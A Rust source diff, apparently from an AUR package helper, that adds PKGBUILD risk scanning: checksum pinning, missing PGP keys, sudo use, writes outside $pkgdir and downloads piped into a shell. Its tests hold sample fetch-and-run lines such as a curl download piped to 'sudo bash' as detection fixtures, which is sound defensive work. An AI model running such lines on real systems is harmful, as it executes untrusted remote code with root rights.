@@ -1,7 +1,9 @@
 //! AUR sandbox preflight checks for build dependencies.
 
+use crate::logic::custom_scan::CustomScanResult;
+use crate::state::modal::RiskLevel;
 use crate::state::types::PackageItem;
-use crate::util::{curl_args, percent_encode};
+use crate::util::{curl_command, percent_encode};
 use futures::stream::{FuturesUnordered, StreamExt};
 use std::collections::HashSet;
 use std::process::{Command, Stdio};
@@ -19,6 +21,15 @@ pub struct DependencyDelta {
     pub version_satisfied: bool,
 }
 
+/// What: Checksum pinning status of one upstream `source` entry.
+#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+pub struct SourcePin {
+    /// Source entry as written in `.SRCINFO` (may include a `name::` prefix)
+    pub source: String,
+    /// Whether at least one checksum array pins this source (i.e., not all `SKIP`)
+    pub pinned: bool,
+}
+
 /// What: Sandbox analysis result for an AUR package.
 #[derive(Debug, Clone, serde::Serialize, serde::Deserialize)]
 pub struct SandboxInfo {
@@ -32,6 +43,148 @@ pub struct SandboxInfo {
     pub checkdepends: Vec<DependencyDelta>,
     /// Optional dependencies (optdepends)
     pub optdepends: Vec<DependencyDelta>,
+    /// Upstream sources with their checksum pinning status (empty when unknown, e.g. PKGBUILD fallback)
+    #[serde(default)]
+    pub sources: Vec<SourcePin>,
+    /// `validpgpkeys` fingerprints not present in the local GnuPG keyring
+    #[serde(default)]
+    pub missing_pgp_keys: Vec<String>,
+    /// Risky build-script behaviour found in the PKGBUILD (`None` when it could not be fetched)
+    #[serde(default)]
+    pub pkgbuild_risk: Option<PkgbuildRisk>,
+    /// Dangerous PKGBUILD patterns with the line they were found on
+    #[serde(default)]
+    pub warnings: Vec<PkgbuildWarning>,
+    /// Result of the user's `custom_scan_command` (`None` when not configured)
+    #[serde(default)]
+    pub custom_scan: Option<CustomScanResult>,
+}
+
+/// What: Risky behaviour detected in a PKGBUILD's build script.
+#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+pub struct PkgbuildRisk {
+    /// The script downloads at build time (curl, wget, git clone, npm/pip install, ...)
+    pub network_access: bool,
+    /// The script invokes `sudo`
+    pub sudo_usage: bool,
+    /// A download is piped straight into a shell (e.g. `curl ... | sh`)
+    pub curl_pipe_shell: bool,
+}
+
+/// What: Kind of dangerous PKGBUILD pattern.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+pub enum PkgbuildIssue {
+    /// A download piped into a shell (`curl ... | sh`, `bash <(curl ...)`)
+    DownloadPipedToShell,
+    /// A git `source` without a `#commit=` or `#tag=` fragment
+    UnpinnedGitSource,
+    /// `sudo` inside a build function
+    SudoInBuild,
+    /// A build function writes to an absolute path or `$HOME` instead of `$pkgdir`/`$srcdir`
+    WriteOutsidePkgdir,
+}
+
+/// What: One dangerous pattern found in a PKGBUILD.
+#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
+pub struct PkgbuildWarning {
+    /// 1-based line number in the PKGBUILD
+    pub line: usize,
+    /// What was found
+    pub issue: PkgbuildIssue,
+    /// The offending line, trimmed
+    pub text: String,
+}
+
+impl SandboxInfo {
+    /// What: Numeric risk score for this package.
+    ///
+    /// Output:
+    /// - Sum of weights: curl piped to a shell 5, sudo 4, writes outside `$pkgdir` 4, network
+    ///   access 2, a failing custom scanner 2, one per unpinned source (at most 3), and 1 when
+    ///   PGP keys are missing.
+    pub fn severity_score(&self) -> u8 {
+        let mut score = 0u8;
+        if let Some(risk) = &self.pkgbuild_risk {
+            score += if risk.curl_pipe_shell { 5 } else { 0 };
+            score += if risk.sudo_usage { 4 } else { 0 };
+            score += if risk.network_access { 2 } else { 0 };
+        }
+        score += if self
+            .warnings
+            .iter()
+            .any(|w| w.issue == PkgbuildIssue::WriteOutsidePkgdir)
+        {
+            4
+        } else {
+            0
+        };
+        score += if self
+            .custom_scan
+            .as_ref()
+            .is_some_and(CustomScanResult::is_warning)
+        {
+            2
+        } else {
+            0
+        };
+        score += self.sources.iter().filter(|p| !p.pinned).count().min(3) as u8;
+        score += u8::from(!self.missing_pgp_keys.is_empty());
+        score
+    }
+
+    /// What: Risk level for [`Self::severity_score`], using the preflight summary thresholds.
+    pub fn risk_level(&self) -> RiskLevel {
+        match self.severity_score() {
+            0 => RiskLevel::Low,
+            1..=4 => RiskLevel::Medium,
+            _ => RiskLevel::High,
+        }
+    }
+}
+
+/// What: Order packages for the Sandbox tab, riskiest first.
+///
+/// Inputs:
+/// - `items`: Packages in the transaction.
+/// - `sandbox_info`: Resolved sandbox analysis.
+///
+/// Output:
+/// - References to `items`: AUR packages by descending [`SandboxInfo::severity_score`], then
+///   official (trusted) packages.
+///
+/// Details:
+/// - The sort is stable, so equal scores keep install-list order. AUR packages without analysis
+///   rank as score 0.
+pub fn rank_by_risk<'a>(
+    items: &'a [PackageItem],
+    sandbox_info: &[SandboxInfo],
+) -> Vec<&'a PackageItem> {
+    let mut ranked: Vec<&PackageItem> = items.iter().collect();
+    ranked.sort_by_key(|item| {
+        std::cmp::Reverse(matches!(item.source, crate::state::Source::Aur).then(|| {
+            sandbox_info
+                .iter()
+                .find(|s| s.package_name == item.name)
+                .map_or(0, SandboxInfo::severity_score)
+        }))
+    });
+    ranked
+}
+
+/// What: Count analyzed AUR packages per risk level.
+///
+/// Output:
+/// - `[high, medium, low]` counts.
+pub fn risk_summary(sandbox_info: &[SandboxInfo]) -> [usize; 3] {
+    let mut counts = [0; 3];
+    for info in sandbox_info {
+        counts[match info.risk_level() {
+            RiskLevel::High => 0,
+            RiskLevel::Medium => 1,
+            RiskLevel::Low => 2,
+        }] += 1;
+    }
+    counts
 }
 
 /// What: Resolve sandbox information for AUR packages using async HTTP.
@@ -45,8 +198,11 @@ pub struct SandboxInfo {
 /// Details:
 /// - Fetches `.SRCINFO` for each AUR package in parallel using async HTTP.
 /// - Parses dependencies and compares against host environment.
-/// - Returns empty vector if no AUR packages are present.
+/// - Returns empty vector if no AUR packages are present or `aur_disabled` is set.
 pub async fn resolve_sandbox_info_async(items: &[PackageItem]) -> Vec<SandboxInfo> {
+    if crate::sources::aur_disabled() {
+        return Vec::new();
+    }
     let aur_items: Vec<_> = items
         .iter()
         .filter(|i| matches!(i.source, crate::state::Source::Aur))
@@ -63,18 +219,28 @@ pub async fn resolve_sandbox_info_async(items: &[PackageItem]) -> Vec<SandboxInf
     let provided = crate::logic::deps::get_provided_packages(&installed);
 
     // Fetch all .SRCINFO files in parallel
-    let client = reqwest::Client::builder()
-        .timeout(std::time::Duration::from_secs(10))
-        .build()
-        .unwrap_or_else(|_| reqwest::Client::new());
+    let mut builder = reqwest::Client::builder().timeout(std::time::Duration::from_secs(10));
+    for proxy in crate::util::reqwest_proxies() {
+        builder = builder.proxy(proxy);
+    }
+    let client = builder.build().unwrap_or_else(|_| reqwest::Client::new());
+
+    // Optional user-defined scanner, run on every fetched PKGBUILD
+    let custom_cmd = {
+        let settings = crate::theme::settings();
+        (settings.scan_do_custom && !settings.custom_scan_command.trim().is_empty())
+            .then_some(settings.custom_scan_command)
+    };
 
     let mut fetch_futures = FuturesUnordered::new();
     for item in items {
         if matches!(item.source, crate::state::Source::Aur) {
             let name = item.name.clone();
+            let version = item.version.clone();
             let installed_clone = installed.clone();
             let provided_clone = provided.clone();
             let client_clone = client.clone();
+            let custom_cmd = custom_cmd.clone();
 
             fetch_futures.push(async move {
                 match fetch_srcinfo_async(&client_clone, &name).await {
@@ -85,7 +251,30 @@ pub async fn resolve_sandbox_info_async(items: &[PackageItem]) -> Vec<SandboxInf
                             &installed_clone,
                             &provided_clone,
                         ) {
-                            Ok(info) => Some(info),
+                            Ok(mut info) => {
+                                // .SRCINFO has no build script; scan the (cached) PKGBUILD too
+                                let pkgbuild_name = name.clone();
+                                if let Ok(Ok((text, custom))) =
+                                    tokio::task::spawn_blocking(move || {
+                                        let text = crate::logic::files::fetch_pkgbuild_sync(
+                                            &pkgbuild_name,
+                                            Some(&version),
+                                        )?;
+                                        let custom = run_custom_scan_for(
+                                            custom_cmd.as_deref(),
+                                            &pkgbuild_name,
+                                            &text,
+                                        );
+                                        Ok::<_, String>((text, custom))
+                                    })
+                                    .await
+                                {
+                                    info.pkgbuild_risk = Some(scan_pkgbuild_risk(&text));
+                                    info.warnings = find_pkgbuild_warnings(&text);
+                                    info.custom_scan = custom;
+                                }
+                                Some(info)
+                            }
                             Err(e) => {
                                 tracing::warn!(
                                     "Failed to analyze sandbox info for {}: {}",
@@ -103,18 +292,30 @@ pub async fn resolve_sandbox_info_async(items: &[PackageItem]) -> Vec<SandboxInf
                         let installed_for_fallback = installed_clone.clone();
                         let provided_for_fallback = provided_clone.clone();
                         match tokio::task::spawn_blocking(move || {
-                            crate::logic::files::fetch_pkgbuild_sync(&name_for_fallback)
+                            let text = crate::logic::files::fetch_pkgbuild_sync(
+                                &name_for_fallback,
+                                Some(&version),
+                            )?;
+                            let custom = run_custom_scan_for(
+                                custom_cmd.as_deref(),
+                                &name_for_fallback,
+                                &text,
+                            );
+                            Ok::<_, String>((text, custom))
                         })
                         .await
                         {
-                            Ok(Ok(pkgbuild_text)) => {
+                            Ok(Ok((pkgbuild_text, custom))) => {
                                 match analyze_package_from_pkgbuild(
                                     &name,
                                     &pkgbuild_text,
                                     &installed_for_fallback,
                                     &provided_for_fallback,
                                 ) {
-                                    Ok(info) => Some(info),
+                                    Ok(mut info) => {
+                                        info.custom_scan = custom;
+                                        Some(info)
+                                    }
                                     Err(e) => {
                                         tracing::warn!(
                                             "Failed to analyze sandbox info for {}: {}",
@@ -164,6 +365,31 @@ pub async fn resolve_sandbox_info_async(items: &[PackageItem]) -> Vec<SandboxInf
     results
 }
 
+/// What: Run the configured custom scanner on a fetched PKGBUILD.
+///
+/// Inputs:
+/// - `template`: `custom_scan_command`, or `None` when disabled.
+/// - `name`: Package name.
+/// - `pkgbuild`: PKGBUILD contents.
+///
+/// Output:
+/// - The scanner result, or `None` when disabled or the scanner could not be started (logged).
+fn run_custom_scan_for(
+    template: Option<&str>,
+    name: &str,
+    pkgbuild: &str,
+) -> Option<CustomScanResult> {
+    let template = template?;
+    crate::logic::custom_scan::run_custom_scan(
+        template,
+        name,
+        pkgbuild,
+        crate::logic::custom_scan::CUSTOM_SCAN_TIMEOUT,
+    )
+    .map_err(|e| tracing::warn!("Custom scanner failed to start for {}: {}", name, e))
+    .ok()
+}
+
 /// What: Resolve sandbox information for AUR packages (synchronous wrapper for async version).
 ///
 /// Inputs:
@@ -267,6 +493,11 @@ fn analyze_package_from_srcinfo(
         makedepends: makedepends_delta,
         checkdepends: checkdepends_delta,
         optdepends: optdepends_delta,
+        sources: parse_srcinfo_sources(srcinfo_text),
+        missing_pgp_keys: missing_pgp_keys("gpg", &parse_srcinfo_pgp_keys(srcinfo_text)),
+        pkgbuild_risk: None,
+        warnings: Vec::new(),
+        custom_scan: None,
     })
 }
 
@@ -300,6 +531,11 @@ fn analyze_package_from_pkgbuild(
         makedepends: makedepends_delta,
         checkdepends: checkdepends_delta,
         optdepends: optdepends_delta,
+        sources: Vec::new(),
+        missing_pgp_keys: Vec::new(),
+        pkgbuild_risk: Some(scan_pkgbuild_risk(pkgbuild_text)),
+        warnings: find_pkgbuild_warnings(pkgbuild_text),
+        custom_scan: None,
     })
 }
 
@@ -327,7 +563,7 @@ fn fetch_and_analyze_package(
                 "Failed to fetch .SRCINFO for {}, trying PKGBUILD",
                 package_name
             );
-            crate::logic::files::fetch_pkgbuild_sync(package_name)?
+            crate::logic::files::fetch_pkgbuild_sync(package_name, None)?
         }
     };
 
@@ -356,12 +592,7 @@ fn fetch_srcinfo(name: &str) -> Result<String, String> {
     );
     tracing::debug!("Fetching .SRCINFO from: {}", url);
 
-    let args = curl_args(&url, &[]);
-    let output = Command::new("curl")
-        .args(&args)
-        .stdin(Stdio::null())
-        .stdout(Stdio::piped())
-        .stderr(Stdio::piped())
+    let output = curl_command(&url, &[])
         .output()
         .map_err(|e| format!("curl failed: {}", e))?;
 
@@ -433,6 +664,149 @@ fn parse_srcinfo_deps(srcinfo: &str) -> (Vec<String>, Vec<String>, Vec<String>,
     (depends, makedepends, checkdepends, optdepends)
 }
 
+/// What: Determine which upstream sources in a .SRCINFO are pinned by checksum.
+///
+/// Inputs:
+/// - `srcinfo`: Raw .SRCINFO file content.
+///
+/// Output:
+/// - One `SourcePin` per `source`/`source_<arch>` entry, in file order.
+///
+/// Details:
+/// - Checksums are matched to sources by position within the same arch suffix, as makepkg does.
+/// - A source counts as pinned when any checksum algorithm gives a value other than `SKIP`;
+///   sources without any checksum entry are unpinned.
+fn parse_srcinfo_sources(srcinfo: &str) -> Vec<SourcePin> {
+    const CHECKSUM_KEYS: [&str; 8] = [
+        "cksums",
+        "md5sums",
+        "sha1sums",
+        "sha224sums",
+        "sha256sums",
+        "sha384sums",
+        "sha512sums",
+        "b2sums",
+    ];
+    // (arch suffix, source) in order, and per (algorithm, suffix) checksum lists
+    let mut sources: Vec<(String, String)> = Vec::new();
+    let mut sums: std::collections::HashMap<(&str, String), Vec<String>> =
+        std::collections::HashMap::new();
+
+    for line in srcinfo.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let Some((key, value)) = line.split_once('=') else {
+            continue;
+        };
+        let (key, value) = (key.trim(), value.trim().to_string());
+        if let Some(suffix) = key.strip_prefix("source")
+            && (suffix.is_empty() || suffix.starts_with('_'))
+        {
+            sources.push((suffix.to_string(), value));
+        } else if let Some(algo) = CHECKSUM_KEYS.iter().find(|a| key.starts_with(**a)) {
+            let suffix = &key[algo.len()..];
+            if suffix.is_empty() || suffix.starts_with('_') {
+                sums.entry((*algo, suffix.to_string()))
+                    .or_default()
+                    .push(value);
+            }
+        }
+    }
+
+    let mut position: std::collections::HashMap<String, usize> = std::collections::HashMap::new();
+    sources
+        .into_iter()
+        .map(|(suffix, source)| {
+            let idx = position.entry(suffix.clone()).or_insert(0);
+            let pinned = CHECKSUM_KEYS.iter().any(|algo| {
+                sums.get(&(*algo, suffix.clone()))
+                    .and_then(|list| list.get(*idx))
+                    .is_some_and(|sum| !sum.eq_ignore_ascii_case("SKIP"))
+            });
+            *idx += 1;
+            SourcePin { source, pinned }
+        })
+        .collect()
+}
+
+/// What: Collect the `validpgpkeys` entries of a .SRCINFO.
+///
+/// Inputs:
+/// - `srcinfo`: Raw .SRCINFO file content.
+///
+/// Output:
+/// - Key fingerprints/IDs, uppercased with spaces and any `0x` prefix removed, in file order.
+fn parse_srcinfo_pgp_keys(srcinfo: &str) -> Vec<String> {
+    srcinfo
+        .lines()
+        .filter_map(|line| {
+            let (key, value) = line.trim().split_once('=')?;
+            (key.trim() == "validpgpkeys").then(|| {
+                let v: String = value.chars().filter(|c| !c.is_whitespace()).collect();
+                v.strip_prefix("0x").unwrap_or(&v).to_ascii_uppercase()
+            })
+        })
+        .filter(|k| !k.is_empty())
+        .collect()
+}
+
+/// What: Find which PGP keys are missing from the local keyring.
+///
+/// Inputs:
+/// - `gpg`: GnuPG binary to run (`"gpg"` in production; a stub path in tests).
+/// - `keys`: Normalized fingerprints or long key IDs.
+///
+/// Output:
+/// - Keys that `gpg --list-keys` does not report; empty when `keys` is empty or gpg cannot run.
+///
+/// Details:
+/// - gpg exits non-zero when any requested key is missing but still lists the ones it found, so
+///   the exit status is ignored and `fpr`/`pub` records from `--with-colons` output are matched
+///   by suffix (covering both full fingerprints and long IDs).
+fn missing_pgp_keys(gpg: &str, keys: &[String]) -> Vec<String> {
+    if keys.is_empty() {
+        return Vec::new();
+    }
+    let output = match Command::new(gpg)
+        .args(["--batch", "--with-colons", "--list-keys", "--"])
+        .args(keys)
+        .env("LC_ALL", "C")
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::null())
+        .output()
+    {
+        Ok(o) => o,
+        Err(e) => {
+            tracing::debug!(error = %e, "gpg unavailable; skipping PGP key check");
+            return Vec::new();
+        }
+    };
+    let known: Vec<String> = String::from_utf8_lossy(&output.stdout)
+        .lines()
+        .filter_map(|line| {
+            let fields: Vec<&str> = line.split(':').collect();
+            match fields.first().copied() {
+                Some("fpr") => fields.get(9),
+                Some("pub") | Some("sub") => fields.get(4),
+                _ => None,
+            }
+            .map(|v| v.to_ascii_uppercase())
+        })
+        .filter(|v| !v.is_empty())
+        .collect();
+    keys.iter()
+        .filter(|k| {
+            !known
+                .iter()
+                .any(|id| id.ends_with(k.as_str()) || k.ends_with(id.as_str()))
+        })
+        .cloned()
+        .collect()
+}
+
 /// What: Parse dependencies from PKGBUILD content.
 ///
 /// Inputs:
@@ -534,6 +908,248 @@ fn parse_array_content(content: &str) -> Vec<String> {
     deps
 }
 
+/// What: Detect risky commands in a PKGBUILD's build script.
+///
+/// Inputs:
+/// - `pkgbuild`: Raw PKGBUILD file content.
+///
+/// Output:
+/// - `PkgbuildRisk` flags for network access, `sudo`, and downloads piped into a shell.
+///
+/// Details:
+/// - Walks lines like `parse_pkgbuild_deps`: comments and unindented `key=value` assignments
+///   (including multi-line arrays such as `source=(...)`) are skipped, so only commands in
+///   functions and bare statements count; URLs in `source` are expected.
+pub fn scan_pkgbuild_risk(pkgbuild: &str) -> PkgbuildRisk {
+    let mut risk = PkgbuildRisk::default();
+    let mut in_array = false;
+    for line in pkgbuild.lines() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') {
+            continue;
+        }
+        if in_array {
+            in_array = !trimmed.ends_with(')');
+            continue;
+        }
+        if !line.starts_with(char::is_whitespace)
+            && let Some((key, value)) = trimmed.split_once('=')
+            && !key.is_empty()
+            && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        {
+            in_array = value.starts_with('(') && !value.ends_with(')');
+            continue;
+        }
+        let words = command_words(trimmed);
+        let has = |w: &str| words.contains(&w);
+        let has_pair = |a: &str, b: &str| words.windows(2).any(|p| p[0] == a && p[1] == b);
+        risk.network_access |= has("curl")
+            || has("wget")
+            || has("aria2c")
+            || has_pair("git", "clone")
+            || has_pair("npm", "install")
+            || has_pair("pip", "install");
+        risk.sudo_usage |= has("sudo");
+        risk.curl_pipe_shell |= pipes_download_to_shell(trimmed, &words);
+    }
+    risk
+}
+
+/// Shells that a download must not be piped into.
+const SHELLS: [&str; 5] = ["sh", "bash", "zsh", "dash", "ksh"];
+
+/// What: Split a shell line into command-like words (alphanumerics plus `_-.+/`).
+fn command_words(line: &str) -> Vec<&str> {
+    line.split(|c: char| !(c.is_ascii_alphanumeric() || "_-.+/".contains(c)))
+        .filter(|w| !w.is_empty())
+        .collect()
+}
+
+/// What: Whether `line` pipes a curl/wget download into a shell.
+///
+/// Inputs:
+/// - `line`: Trimmed shell line.
+/// - `words`: [`command_words`] of `line`.
+///
+/// Details:
+/// - Matches `curl ... | sh`, `curl ... | sudo bash`, `bash <(curl ...)`, and
+///   `sh -c "$(curl ...)"`.
+fn pipes_download_to_shell(line: &str, words: &[&str]) -> bool {
+    if !words.iter().any(|w| matches!(*w, "curl" | "wget")) {
+        return false;
+    }
+    let piped = line.split('|').skip(1).any(|seg| {
+        let mut it = seg.split_whitespace();
+        let first = it.next().unwrap_or("");
+        let first = if first == "sudo" {
+            it.next().unwrap_or("")
+        } else {
+            first
+        };
+        SHELLS.contains(&first)
+    });
+    let substituted =
+        (line.contains("<(") || line.contains("$(")) && SHELLS.iter().any(|sh| words.contains(sh));
+    piped || substituted
+}
+
+/// What: Whether a git `source` entry is not pinned to a commit or tag.
+fn is_unpinned_git_source(entry: &str) -> bool {
+    let url = entry.split_once("::").map_or(entry, |(_, u)| u);
+    (url.starts_with("git+") || url.starts_with("git://"))
+        && !url.contains("#commit=")
+        && !url.contains("#tag=")
+}
+
+/// What: Whether a write target lies outside the package and source directories.
+///
+/// Details:
+/// - Absolute paths (other than `/dev/null`) and `$HOME`/`~` count; `"$pkgdir"/...` and relative
+///   paths do not.
+fn is_outside_pkgdir(target: &str) -> bool {
+    let target = target.trim_matches(|c| c == '"' || c == '\'');
+    (target.starts_with('/') && target != "/dev/null")
+        || target.starts_with("$HOME")
+        || target.starts_with("${HOME}")
+        || target.starts_with('~')
+}
+
+/// What: Whether a command segment inside a build function writes outside `$pkgdir`.
+///
+/// Inputs:
+/// - `segment`: One command (already split on `;`, `&&`, `||`, and `|`).
+///
+/// Details:
+/// - Checks redirect targets, the destination (last argument) of `cp`/`mv`/`install`/`ln`/
+///   `rsync`, and every path argument of `mkdir`/`touch`/`tee`/`rm`/`chmod`/`chown`.
+fn writes_outside_pkgdir(segment: &str) -> bool {
+    let tokens: Vec<&str> = segment.split_whitespace().collect();
+    for (i, tok) in tokens.iter().enumerate() {
+        if let Some(pos) = tok.rfind('>') {
+            if tok[..pos].ends_with('&') || tok[pos + 1..].starts_with('&') {
+                continue;
+            }
+            let target = match &tok[pos + 1..] {
+                "" => tokens.get(i + 1).copied().unwrap_or(""),
+                rest => rest,
+            };
+            if is_outside_pkgdir(target) {
+                return true;
+            }
+        }
+    }
+    let mut args = tokens.iter().copied().filter(|t| !t.contains('>'));
+    let mut cmd = args.next().unwrap_or("");
+    if cmd == "sudo" {
+        cmd = args.next().unwrap_or("");
+    }
+    let paths: Vec<&str> = args.filter(|a| !a.starts_with('-')).collect();
+    match cmd {
+        "cp" | "mv" | "install" | "ln" | "rsync" => {
+            paths.last().is_some_and(|d| is_outside_pkgdir(d))
+        }
+        "mkdir" | "touch" | "tee" | "rm" | "chmod" | "chown" => {
+            paths.iter().any(|p| is_outside_pkgdir(p))
+        }
+        _ => false,
+    }
+}
+
+/// What: Find dangerous patterns in a PKGBUILD, with their line numbers.
+///
+/// Inputs:
+/// - `pkgbuild`: Raw PKGBUILD file content.
+///
+/// Output:
+/// - One `PkgbuildWarning` per finding, in file order.
+///
+/// Details:
+/// - Commented lines are ignored, and trailing ` #` comments are stripped from commands.
+/// - Git sources are checked in `source=()`/`source_<arch>=()` arrays (single- or multi-line);
+///   `sudo` and writes outside `$pkgdir` only inside functions such as `build()` and
+///   `package()`; downloads piped to a shell anywhere.
+pub fn find_pkgbuild_warnings(pkgbuild: &str) -> Vec<PkgbuildWarning> {
+    let mut warnings = Vec::new();
+    let mut in_function = false;
+    // Some(true) inside a `source` array, Some(false) inside any other multi-line array
+    let mut in_array: Option<bool> = None;
+    for (idx, line) in pkgbuild.lines().enumerate() {
+        let trimmed = line.trim();
+        if trimmed.is_empty() || trimmed.starts_with('#') {
+            continue;
+        }
+        let mut warn = |issue| {
+            warnings.push(PkgbuildWarning {
+                line: idx + 1,
+                issue,
+                text: trimmed.to_string(),
+            })
+        };
+        let mut array_body = None;
+        if let Some(is_source) = in_array {
+            let body = trimmed.strip_suffix(')').unwrap_or(trimmed);
+            if trimmed.ends_with(')') {
+                in_array = None;
+            }
+            if !is_source {
+                continue;
+            }
+            array_body = Some(body);
+        } else if !in_function
+            && !line.starts_with(char::is_whitespace)
+            && let Some((key, value)) = trimmed.split_once('=')
+            && !key.is_empty()
+            && key.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
+        {
+            let Some(body) = value.strip_prefix('(') else {
+                continue;
+            };
+            let is_source = key == "source" || key.starts_with("source_");
+            match body.strip_suffix(')') {
+                Some(inner) => array_body = Some(inner),
+                None => {
+                    in_array = Some(is_source);
+                    array_body = Some(body);
+                }
+            }
+            if !is_source {
+                continue;
+            }
+        }
+        if let Some(body) = array_body {
+            if body
+                .split_whitespace()
+                .any(|e| is_unpinned_git_source(e.trim_matches(['\'', '"'])))
+            {
+                warn(PkgbuildIssue::UnpinnedGitSource);
+            }
+            continue;
+        }
+        if !line.starts_with(char::is_whitespace) {
+            if trimmed.contains("()") && (trimmed.ends_with('{') || trimmed.ends_with("()")) {
+                in_function = true;
+                continue;
+            }
+            if trimmed == "}" {
+                in_function = false;
+                continue;
+            }
+        }
+        let command = trimmed.split(" #").next().unwrap_or(trimmed);
+        let words = command_words(command);
+        if pipes_download_to_shell(command, &words) {
+            warn(PkgbuildIssue::DownloadPipedToShell);
+        }
+        if in_function && words.contains(&"sudo") {
+            warn(PkgbuildIssue::SudoInBuild);
+        }
+        if in_function && command.split(['|', ';', '&']).any(writes_outside_pkgdir) {
+            warn(PkgbuildIssue::WriteOutsidePkgdir);
+        }
+    }
+    warnings
+}
+
 /// What: Analyze dependencies against the host environment.
 ///
 /// Inputs:
@@ -632,7 +1248,7 @@ pub fn extract_package_name(dep_spec: &str) -> String {
 /// Output:
 /// - `true` if the package is local, `false` otherwise.
 fn is_local_package(name: &str) -> bool {
-    let output = Command::new("pacman")
+    let output = Command::new(crate::install::privilege::pacman_bin())
         .args(["-Qi", name])
         .env("LC_ALL", "C")
         .env("LANG", "C")
@@ -673,3 +1289,211 @@ fn is_local_package(name: &str) -> bool {
 fn get_installed_packages() -> HashSet<String> {
     crate::logic::deps::get_installed_packages()
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    /// What: Flag sources whose checksums are all `SKIP` while accepting any real checksum as a pin.
+    ///
+    /// Inputs:
+    /// - `.SRCINFO` with a pinned tarball, a `SKIP`ped git source, a patch pinned only via `b2sums`,
+    ///   and an x86_64-only source whose arch-specific checksum is `SKIP`.
+    ///
+    /// Output:
+    /// - Four `SourcePin` entries in order; only the git and x86_64 sources are unpinned.
+    ///
+    /// Details:
+    /// - Confirms checksums are matched by position per arch suffix across algorithms.
+    fn parse_srcinfo_sources_flags_skip_entries() {
+        let srcinfo = "pkgbase = demo
+\tpkgver = 1.0
+\tsource = demo-1.0.tar.gz::https://example.org/demo-1.0.tar.gz
+\tsource = git+https://example.org/demo.git
+\tsource = fix.patch
+\tsource_x86_64 = https://example.org/demo-bin-x86_64.tar.gz
+\tsha256sums = 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef
+\tsha256sums = SKIP
+\tsha256sums = SKIP
+\tb2sums = SKIP
+\tb2sums = SKIP
+\tb2sums = 99aa
+\tsha256sums_x86_64 = SKIP
+
+pkgname = demo
+";
+        let pins = parse_srcinfo_sources(srcinfo);
+        assert_eq!(pins.len(), 4);
+        let unpinned: Vec<&str> = pins
+            .iter()
+            .filter(|p| !p.pinned)
+            .map(|p| p.source.as_str())
+            .collect();
+        assert_eq!(
+            unpinned,
+            vec![
+                "git+https://example.org/demo.git",
+                "https://example.org/demo-bin-x86_64.tar.gz"
+            ]
+        );
+        assert!(pins[0].pinned);
+        assert!(pins[2].pinned);
+    }
+
+    #[test]
+    /// What: Report `validpgpkeys` entries that a stubbed gpg does not list.
+    ///
+    /// Inputs:
+    /// - `.SRCINFO` with two `validpgpkeys` (one with a `0x` prefix and spaces) and a gpg stub that
+    ///   only knows the first fingerprint and exits with status 2 like real gpg.
+    ///
+    /// Output:
+    /// - Only the second key is flagged as missing; a non-existent gpg binary yields no warnings.
+    ///
+    /// Details:
+    /// - Uses an explicit stub path so PATH is not mutated.
+    fn missing_pgp_keys_flags_keys_absent_from_keyring() {
+        use std::os::unix::fs::PermissionsExt;
+        let srcinfo = "pkgbase = demo
+\tvalidpgpkeys = 0123456789ABCDEF0123456789ABCDEF01234567
+\tvalidpgpkeys = 0xfedc ba98 7654 3210 fedc ba98 7654 3210 fedc ba98
+
+pkgname = demo
+";
+        let keys = parse_srcinfo_pgp_keys(srcinfo);
+        assert_eq!(
+            keys,
+            vec![
+                "0123456789ABCDEF0123456789ABCDEF01234567",
+                "FEDCBA9876543210FEDCBA9876543210FEDCBA98"
+            ]
+        );
+
+        let dir = tempfile::tempdir().expect("tempdir");
+        let stub = dir.path().join("gpg");
+        std::fs::write(
+            &stub,
+            "#!/bin/sh\n\
+             echo 'pub:-:255:22:89ABCDEF01234567:1700000000:::-:::scSC::::::23::0:'\n\
+             echo 'fpr:::::::::0123456789ABCDEF0123456789ABCDEF01234567:'\n\
+             echo 'gpg: error reading key: No public key' >&2\n\
+             exit 2\n",
+        )
+        .expect("write stub");
+        std::fs::set_permissions(&stub, std::fs::Permissions::from_mode(0o755)).expect("chmod");
+
+        let missing = missing_pgp_keys(&stub.display().to_string(), &keys);
+        assert_eq!(missing, vec!["FEDCBA9876543210FEDCBA9876543210FEDCBA98"]);
+        assert!(
+            missing_pgp_keys(&dir.path().join("absent").display().to_string(), &keys).is_empty()
+        );
+    }
+
+    #[test]
+    /// What: Detect risky PKGBUILD commands and rank packages by the resulting score.
+    ///
+    /// Inputs:
+    /// - A PKGBUILD with URLs only in `source`, one that pipes curl into bash under sudo, and an
+    ///   install list mixing both with an official package.
+    ///
+    /// Output:
+    /// - Source URLs are ignored; the risky script scores High and ranks first, official last.
+    fn scan_pkgbuild_risk_scores_and_ranks() {
+        let clean = "pkgname=demo\nsource=(\n  'https://example.org/curl.tar.gz'\n)\nbuild() {\n  make\n}\n";
+        assert_eq!(scan_pkgbuild_risk(clean), PkgbuildRisk::default());
+        let risky = "pkgname=bad\n# sudo in a comment\nprepare() {\n  curl -fsSL https://x.sh | sudo bash\n}\n";
+        let risk = scan_pkgbuild_risk(risky);
+        assert!(risk.network_access && risk.sudo_usage && risk.curl_pipe_shell);
+        let subst = scan_pkgbuild_risk("build() {\n  sh -c \"$(wget -qO- https://x.sh)\"\n}\n");
+        assert!(subst.curl_pipe_shell && !subst.sudo_usage);
+
+        let info = |name: &str, risk: Option<PkgbuildRisk>| SandboxInfo {
+            package_name: name.into(),
+            depends: vec![],
+            makedepends: vec![],
+            checkdepends: vec![],
+            optdepends: vec![],
+            sources: vec![],
+            missing_pgp_keys: vec![],
+            pkgbuild_risk: risk,
+            warnings: vec![],
+            custom_scan: None,
+        };
+        let infos = vec![
+            info("demo", Some(scan_pkgbuild_risk(clean))),
+            info("bad", Some(risk)),
+        ];
